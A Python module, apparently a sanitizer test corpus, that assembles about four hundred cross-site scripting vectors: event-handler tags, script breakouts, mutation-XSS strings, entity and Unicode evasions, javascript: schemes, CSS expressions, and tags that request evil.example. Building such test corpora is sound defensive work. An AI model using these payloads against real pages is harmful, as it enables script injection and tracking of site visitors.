"""Some four hundred ways for strangers to make a page of ours run a script or ask somebody else.

`hit(n)` is what each would call, `https://evil.example/n` what it would ask for; n is its place in VECTORS. They are
put together from the parts of such attacks: elements, handlers, schemes, and ways to hide each from a filter.
"""

from collections.abc import Iterator
from itertools import product

EVIL = "https://evil.example"

# An element, and the handler that it calls by itself or by what a visitor does anyway.
_HANDLERS = (
    *(
        f"<{tag} src=x onerror=%s>"
        for tag in ("img", "video", "audio", "script", "embed", "iframe", "input type=image")
    ),
    *(
        f"<{tag} onload=%s>"
        for tag in ("svg", "body", "style", "link rel=stylesheet href=data:,", "object data=data:,")
    ),
    *(
        f"<{tag} autofocus tabindex=0 onfocus=%s>x"
        for tag in ("a", "input", "button", "select", "textarea", "keygen", "p")
    ),
    "<details open ontoggle=%s><summary>x</summary></details>",
    "<video><source onerror=%s></video>",
    "<picture><source srcset=x><img onerror=%s></picture>",
    "<marquee onstart=%s>x</marquee>",
    "<marquee loop=1 width=0 onfinish=%s>x</marquee>",
    "<svg><animate attributeName=x dur=1s onbegin=%s></svg>",
    "<svg><set attributeName=x onbegin=%s></svg>",
    "<svg><image href=x onerror=%s></svg>",
    "<math><mi onclick=%s>x</mi></math>",
    "<body onpageshow=%s>",
    "<body onhashchange=%s onresize=%s>",
    "<frameset onload=%s>",
    "<table background=x onmouseover=%s><tr><td>x</table>",
    "<p onpointerenter=%s style=position:fixed;inset:0>x</p>",
    "<div onanimationstart=%s style='animation:x 1s'>x</div>",
    "<div ontransitionend=%s contenteditable oncut=%s>x</div>",
    "<dialog open oncancel=%s onclose=%s>x</dialog>",
    "<form onsubmit=%s><input name=parentNode><button>x</button></form>",
    "<label onclick=%s for=main>x</label>",
    "<xss onwheel=%s style=display:block>x</xss>",
    "<template><img src=x onerror=%s></template>",
)
_HIDDEN_HANDLERS = (
    "<img src=x onerror=%s//>",
    "<img/src=x/onerror=%s>",
    "<img\tsrc=x\tonerror=%s>",
    "<img\nsrc=x\nonerror\n=\n%s>",
    "<img\x0csrc=x\x0conerror=%s>",
    "<IMG SRC=x ONERROR=%s>",
    "<img src=x oNeRrOr=%s>",
    "<img src=x onerror='%s'>",
    '<img src=x onerror="%s">',
    "<img src=x onerror=`%s`>",
    "<img src='x' 'onerror=%s' onerror=%s>",
    "<img src=x:x onerror\x00=%s>",
    "<img \x00src=x onerror=%s>",
    "<img src=x alt='`><img src=x onerror=%s>'>",
    '<img src=x alt="\'" title="x" onerror=%s>',
    "<img src=x title='&quot;><img src=x onerror=%s>'>",
    "<img src=x onerror=%s",
    "<<img src=x onerror=%s>",
    "<img <img src=x onerror=%s>",
    "<im\x00g src=x onerror=%s>",
    "<b <script>x</script><img src=x onerror=%s>",
    "<p title='</p><img src=x onerror=%s>'>x</p>",
    "<a href='x' title='\"><img src=x onerror=%s>'>x</a>",
)
_SCRIPTS = (
    "<script>%s</script>",
    "<SCRIPT>%s</SCRIPT>",
    "<script >%s</script >",
    "<script/x>%s</script>",
    "<script\n>%s</script\n>",
    "<script type=module>%s</script>",
    "<script type='text/javascript' async>%s</script>",
    "<<script>%s//<</script>",
    "<scr<script>ipt>%s</scr</script>ipt>",
    "<script><!--\n%s\n--></script>",
    "<script>%s",
    "<svg><script>%s</script></svg>",
    "<svg><script href=data:,%s />",
    "<math><script>%s</script></math>",
    "<noscript><script>%s</script></noscript>",
    "<script src='data:text/javascript,%s'></script>",
    "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.%s</script>'></iframe>",
    "<object data='data:text/html,<script>parent.%s</script>'></object>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.%s"/>\'>',
)
# Text that ends what it stands in, wherever a page puts it.
_BREAKOUTS = (
    *(
        f"{end}<script>%s</script>"
        for end in ("</script>", "</title>", "</style>", "</textarea>", "</noscript>", "</head>")
    ),
    *(
        f"{end}<img src=x onerror=%s>"
        for end in ('">', "'>", "`>", "-->", "--!>", "]]>", "*/", "</a>", "</option>")
    ),
    *(f"x{quote} onmouseover={quote}%s{quote} y={quote}" for quote in "\"'`"),
    *(f"x{quote} autofocus tabindex=0 onfocus={quote}%s{quote} y={quote}" for quote in "\"'`"),
    *(f"x{quote};%s;{quote}" for quote in "\"'`"),
    *(f"\\{quote}-%s-\\{quote}" for quote in "\"'"),
    "</script><!--<script>%s",
    "<!--<script>%s</script>",
    '"}</script><script>%s</script>',
    '"},"@type":"x"}]</script><svg onload=%s>',
    "${%s}",
    "{{%s}}",
    "{%% verbatim %%}%s{%% endverbatim %%}",
    "#{%s}",
    "<%%= %s %%>",
    "\u2028%s\u2029",
    "\r\n\r\n<script>%s</script>",
    "%%0d%%0a<script>%s</script>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>%s</script>",
    "<![CDATA[<script>%s</script>]]>",
    "<!ENTITY x '<script>%s</script>'>&x;",
)
# What a cleaner reads otherwise than a browser does.
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=%s>">',
    '<svg></p><style><a id="</style><img src=x onerror=%s>">',
    '<math></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=%s&gt;">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%s&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=%s src>">',
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=%s>"></desc></svg>',
    '<table><a href="<a"><td><script>%s</script><a href="x" title="</a><img src=x onerror=%s>">',
    "<select><template><style><!--</select><img src=x onerror=%s>-->",
    "<textarea><p title='</textarea><img src=x onerror=%s>'>",
    "<title><p title='</title><img src=x onerror=%s>'>",
    "<xmp><p title='</xmp><img src=x onerror=%s>'>",
    "<noembed><p title='</noembed><img src=x onerror=%s>'>",
    "<noframes><p title='</noframes><img src=x onerror=%s>'>",
    "<iframe><p title='</iframe><img src=x onerror=%s>'>",
    "<style><p title='</style><img src=x onerror=%s>'>",
    "<plaintext><img src=x onerror=%s>",
    "<listing>&lt;img src=x onerror=%s&gt;</listing>",
    "<!--><img src=x onerror=%s>-->",
    "<!---><img src=x onerror=%s>-->",
    "<!--x--!><img src=x onerror=%s>-->",
    "<!x><img src=x onerror=%s>",
    "<?x ?><img src=x onerror=%s>",
    "</p x='><img src=x onerror=%s>'",
    "</x/<img src=x onerror=%s>",
    "<a><table><a><img src=x onerror=%s>",
    "<table><tr><a href=javascript:%s>x<td></table>",
    "<li><table><li><svg><foreignObject><img src=x onerror=%s>",
    "<svg><foreignObject><p><iframe srcdoc='<img src=x onerror=parent.%s>'></foreignObject></svg>",
    "<annotation-xml encoding=text/html><img src=x onerror=%s></annotation-xml>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=%s></style></annotation-xml></math>",
    "<dl><dd><dl><dt><b><i><u><table><b><img src=x onerror=%s>",
)
_ENTITIES = (
    "&lt;script&gt;%s&lt;/script&gt;",
    "&amp;lt;script&amp;gt;%s&amp;lt;/script&amp;gt;",
    "&lt;img src=x onerror=%s&gt;",
    "&amp;lt;img src=x onerror=%s&amp;gt;",
    "&amp;amp;lt;img src=x onerror=%s&amp;amp;gt;",
    "&#60;img src=x onerror=%s&#62;",
    "&#x3c;img src=x onerror=%s&#x3e;",
    "&#x0000003c;img src=x onerror=%s&#x0000003e;",
    "&ltimg src=x onerror=%s&gt",
    "\\u003cimg src=x onerror=%s\\u003e",
    "\\x3cimg src=x onerror=%s\\x3e",
    "%%3Cimg src=x onerror=%s%%3E",
    "+ADw-img src=x onerror=%s+AD4-",
    "\uff1cimg src=x onerror=%s\uff1e",
    "\u226eimg src=x onerror=%s\u226f",
    "<\u200bimg src=x onerror=%s>",
    "\u202e<img src=x onerror=%s>",
    "\ufeff<img src=x onerror=%s>",
    "&lt;p&gt;&lt;img src=x onerror=%s&gt;&lt;/p&gt;",
    "&lt;b onmouseover=%s style=position:fixed;inset:0&gt;x&lt;/b&gt;",
    "&lt;a href=&quot;javascript:%s&quot;&gt;x&lt;/a&gt;",
)
_SCHEMES = (
    "javascript:%s",
    "JaVaScRiPt:%s",
    " javascript:%s",
    "\x01javascript:%s",
    "java\tscript:%s",
    "java\nscript:%s",
    "java&#x09;script&colon;%s",
    "&#106;avascript:%s",
    "&#x6A&#x61vascript:%s",
    "javascript&#58;%s",
    "javascript&colon;%s",
    "java\x00script:%s",
    "javascript://x%%0a%s",
    "javascript:/*--></title></style></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+%s//'>",
    "feed:javascript:%s",
    "view-source:javascript:%s",
    "vbscript:%s",
    "data:text/html,<script>%s</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#%s",
    "blob:https://evil.example/%s",
)
_LINKS = (
    '<a href="{}">x</a>',
    "<a href='{}' target=_self>x</a>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}"><mi>x</mi></math>',
    '<object data="{}"></object>',
)
_ONCE = (
    '<area href="javascript:%s">',
    '<embed src="javascript:%s">',
    '<base href="javascript:%s//">',
    '<meta http-equiv=refresh content="0;url=javascript:%s">',
    '<link rel=import href="javascript:%s">',
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:%s'/>#x\">",
    '<svg><animate attributeName=href values="javascript:%s" href="#x"/><a id=x><text>x</text></a></svg>',
    '<a href="https://x.example/" ping="javascript:%s">x</a>',
    '<img src="javascript:%s">',
    '<table background="javascript:%s">',
    '<isindex action="javascript:%s" type=submit>',
)
_STYLES = (
    "<style>@import '{evil}';</style>",
    "<style>body{{background:url({evil})}}</style>",
    "<style>*{{x:expression({call})}}</style>",
    "<style>body{{-moz-binding:url({evil}#x)}}</style>",
    '<p style="background:url({evil})">x</p>',
    "<p style=\"background-image:\\75rl('{evil}')\">x</p>",
    '<p style="width:expression({call})">x</p>',
    '<p style="behavior:url({evil})">x</p>',
    '<p style="list-style:url({evil})">x</p>',
    '<p style="content:url({evil});position:fixed;inset:0;z-index:9">x</p>',
    '<p style="cursor:url({evil}),auto">x</p>',
    "<link rel=stylesheet href='{evil}'>",
    "<link rel='preload' as=script href='{evil}'>",
    "<link rel=prefetch href='{evil}'>",
    "<link rel=dns-prefetch href='{evil}'>",
    "<link rel=modulepreload href='{evil}'>",
    "<link rel=manifest href='{evil}'>",
    "<link rel=icon href='{evil}'>",
)
_REQUESTS = (
    "<img src='{evil}'>",
    "<img src='{evil}' width=0 height=0 alt=''>",
    "<img srcset='{evil} 1x'>",
    "<img src='//evil.example/{n}'>",
    "<img src='\\\\evil.example\\{n}'>",
    "<img lowsrc='{evil}' dynsrc='{evil}'>",
    "<picture><source srcset='{evil}'><img></picture>",
    "<video src='{evil}' autoplay></video>",
    "<video poster='{evil}'></video>",
    "<audio src='{evil}' autoplay></audio>",
    "<video><track default src='{evil}'></video>",
    "<input type=image src='{evil}'>",
    "<body background='{evil}'>",
    "<table background='{evil}'><tr><td background='{evil}'>x</table>",
    "<iframe src='{evil}'></iframe>",
    "<frame src='{evil}'>",
    "<object data='{evil}'></object>",
    "<embed src='{evil}'>",
    "<script src='{evil}'></script>",
    "<script src='//evil.example/{n}'></script>",
    "<script type=module>import '{evil}'</script>",
    "<svg><image href='{evil}'/></svg>",
    "<svg><image xlink:href='{evil}'/></svg>",
    "<svg><use href='{evil}#x'/></svg>",
    "<svg><filter id=x><feImage href='{evil}'/></filter><rect filter='url(#x)' width=9 height=9/></svg>",
    "<svg><style>@import '{evil}';</style></svg>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href='{evil}/'>",
    "<base target=_blank href='//evil.example/{n}/'>",
    "<form action='{evil}'><input type=submit></form><script>document.forms[0].submit()</script>",
    "<a href='https://x.example/' ping='{evil}'>x</a>",
    "<bgsound src='{evil}'>",
    "<applet code='{evil}'></applet>",
    "<portal src='{evil}'></portal>",
    "<fencedframe src='{evil}'></fencedframe>",
    "<blockquote cite='{evil}'>x</blockquote>",
    "<a href='{evil}' download>x</a>",
    "<img src=`{evil}`>",
    "<image src='{evil}'>",
    "<image href='{evil}'>",
    "[img]{evil}[/img]",
    "![x]({evil})",
)
_CALLS = (
    "hit({n})",
    "hit`{n}`",
    "top.hit({n})",
    "self['hi'+'t']({n})",
    "eval('hit({n})')",
    "setTimeout('hit({n})')",
)


def _texts() -> Iterator[str]:
    yield from _HANDLERS
    yield from _HIDDEN_HANDLERS
    yield from _SCRIPTS
    yield from _BREAKOUTS
    yield from _MUTATIONS
    yield from _ENTITIES
    yield from _ONCE
    yield from (link.replace("{}", scheme) for link, scheme in product(_LINKS, _SCHEMES))


def _vectors() -> Iterator[str]:
    texts = tuple(_texts())
    for number, text in enumerate(texts):
        call = _CALLS[number % len(_CALLS)].format(n=number)
        quoted = "'" in text or '"' in text or "=%s" in text
        if quoted and number % len(_CALLS) > 2:
            call = f"hit({number})"  # with quotes of its own it would only break itself
        yield text.replace("%s", call).replace("%%", "%")
    for number, text in enumerate((*_STYLES, *_REQUESTS), len(texts)):
        yield text.format(n=number, call=f"hit({number})", evil=f"{EVIL}/{number}")


VECTORS = tuple(_vectors())
